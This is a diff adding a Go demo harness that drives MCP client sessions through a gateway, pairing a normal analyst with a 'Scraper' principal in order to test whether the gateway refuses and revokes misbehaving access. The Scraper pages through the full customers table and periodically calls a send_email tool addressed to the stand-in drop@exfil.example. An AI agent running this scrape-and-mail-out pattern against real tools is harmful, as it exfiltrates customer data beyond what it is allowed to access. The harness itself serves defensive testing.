@@ -1,0 +1,120 @@
+package demo
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net/http"
+	"sync"
+	"time"
+
+	sdk "github.com/modelcontextprotocol/go-sdk/mcp"
+)
+
+// User is one demo principal and the bearer token the gateway knows it by.
+type User struct {
+	Name  string
+	Token string
+}
+
+// Report is what the traffic saw from the client side.
+type Report struct {
+	Calls   map[string]int // successful tool calls per user
+	Refused map[string]int // calls the gateway refused per user
+	// FirstRefusal is when the scraper's first call was refused; zero if never.
+	FirstRefusal time.Time
+	// RefusalError is the error text the scraper's client got.
+	RefusalError string
+}
+
+// Connect opens an MCP client session through the gateway with the user's token.
+func Connect(ctx context.Context, endpoint string, u User) (*sdk.ClientSession, error) {
+	hc := &http.Client{Transport: bearer{token: u.Token, next: http.DefaultTransport}, Timeout: 30 * time.Second}
+	c := sdk.NewClient(&sdk.Implementation{Name: "demo-agent-" + u.Name, Version: "1.0.0"}, nil)
+	s, err := c.Connect(ctx, &sdk.StreamableClientTransport{Endpoint: endpoint, HTTPClient: hc, MaxRetries: -1}, nil)
+	if err != nil {
+		return nil, fmt.Errorf("connect %s: %w", u.Name, err)
+	}
+	return s, nil
+}
+
+// Normal runs a well-behaved analyst: a handful of calls, spaced out, until ctx ends or calls
+// are done.
+func Normal(ctx context.Context, endpoint string, u User, calls int, gap time.Duration, r *Report, mu *sync.Mutex) error {
+	s, err := Connect(ctx, endpoint, u)
+	if err != nil {
+		return err
+	}
+	defer s.Close()
+	if _, err := s.ListTools(ctx, nil); err != nil {
+		return fmt.Errorf("%s: tools/list: %w", u.Name, err)
+	}
+	for i := range calls {
+		p := &sdk.CallToolParams{Name: "db_query", Arguments: QueryArgs{SQL: "SELECT region, revenue FROM sales"}}
+		if i%3 == 1 {
+			p = &sdk.CallToolParams{Name: "file_read", Arguments: ReadArgs{Path: "/reports/q3.pdf"}}
+		}
+		_, err := s.CallTool(ctx, p)
+		mu.Lock()
+		if err != nil {
+			r.Refused[u.Name]++
+		} else {
+			r.Calls[u.Name]++
+		}
+		mu.Unlock()
+		select {
+		case <-ctx.Done():
+			return nil
+		case <-time.After(gap):
+		}
+	}
+	return nil
+}
+
+// Scraper runs the misbehaving principal: it hammers the sales database and mails results out,
+// as fast as the gateway lets it, until the gateway refuses it (or max calls).
+func Scraper(ctx context.Context, endpoint string, u User, max int, r *Report, mu *sync.Mutex) error {
+	s, err := Connect(ctx, endpoint, u)
+	if err != nil {
+		return err
+	}
+	defer s.Close()
+	for i := range max {
+		p := &sdk.CallToolParams{Name: "db_query", Arguments: QueryArgs{SQL: fmt.Sprintf("SELECT * FROM customers LIMIT 1000 OFFSET %d", i*1000)}}
+		if i%10 == 9 {
+			p = &sdk.CallToolParams{Name: "send_email", Arguments: MailArgs{To: "drop@exfil.example", Body: "batch " + fmt.Sprint(i)}}
+		}
+		_, err := s.CallTool(ctx, p)
+		if err != nil {
+			mu.Lock()
+			r.Refused[u.Name]++
+			if r.FirstRefusal.IsZero() {
+				r.FirstRefusal, r.RefusalError = time.Now(), err.Error()
+			}
+			n := r.Refused[u.Name]
+			mu.Unlock()
+			if n >= 3 {
+				return nil // refused three times in a row: the revocation holds
+			}
+			continue
+		}
+		mu.Lock()
+		r.Calls[u.Name]++
+		mu.Unlock()
+		if ctx.Err() != nil {
+			return nil
+		}
+	}
+	return errors.New("scraper was never refused")
+}
+
+type bearer struct {
+	token string
+	next  http.RoundTripper
+}
+
+func (b bearer) RoundTrip(r *http.Request) (*http.Response, error) {
+	r = r.Clone(r.Context())
+	r.Header.Set("Authorization", "Bearer "+b.token)
+	return b.next.RoundTrip(r)
+}
